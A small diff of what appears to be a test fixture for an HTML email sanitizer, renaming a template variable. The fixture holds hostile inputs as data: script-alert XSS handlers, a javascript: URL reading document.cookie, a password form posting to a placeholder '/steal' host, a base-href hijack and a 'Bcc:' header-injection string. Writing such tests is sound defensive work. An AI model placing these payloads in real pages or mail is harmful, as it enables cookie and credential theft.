@@ -15,7 +15,7 @@ _BODY = f"""<p onclick="alert(1)">The body stays {_SCRIPT}<img src="x" onerror="
 <svg onload="alert(1)"><circle/></svg><iframe src="https://{HOST}/"></iframe><style>* {{ display: none }}</style>
 <form action="https://{HOST}/steal"><input name="password"></form>
 <a href="https://{HOST}/&quot;onmouseover=&quot;alert(1)">A link</a> <base href="https://{HOST}/">
-<math><mtext></p><!--[if mso]><p>Outlook only</p><![endif]--> {{{{ page.subject }}}} *|UNSUB|*</p>"""
+<math><mtext></p><!--[if mso]><p>Outlook only</p><![endif]--> {{{{ digest.subject }}}} *|UNSUB|*</p>"""
 _ITEMS = (
     ("https://{host}/a", f"{_SCRIPT}The title stays\r\nBcc: all@{HOST}", _BODY),
     ("javascript:alert(document.cookie)", "The summary stays --> <!-- ]]>", "<p>" * 300 + "deep"),
